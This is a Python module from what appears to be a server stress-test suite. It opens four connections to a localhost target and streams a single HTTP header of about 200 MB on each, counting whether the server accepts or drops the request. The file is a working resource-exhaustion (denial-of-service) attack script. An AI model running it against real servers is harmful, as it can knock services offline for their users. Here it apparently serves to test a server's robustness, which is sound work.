"""Requests with endless headers, sent as fast as possible."""

import asyncio
from collections import Counter

from bench.attacks.target import Target, repeat

WHAT = "4 connections that repeatedly send one header of 200 MB"
CONNECTIONS = 4
_HEAD = b"GET /api/polls HTTP/1.1\r\nHost: localhost\r\nX-Endless: "
_PIECE = b"a" * (1 << 18)
_PIECES = 800


async def attack(target: Target) -> Counter[str]:
    return await repeat(target, CONNECTIONS, lambda _: _send(target))


async def _send(target: Target) -> str:
    reader, writer = await target.connect()
    try:
        writer.write(_HEAD)
        for _ in range(_PIECES):
            writer.write(_PIECE)
            await writer.drain()
        return "taken"
    except ConnectionError:
        # The response may have been lost with the connection.
        return "cut off"
    finally:
        writer.transport.abort()
        reader.feed_eof()
        await asyncio.sleep(0.05)
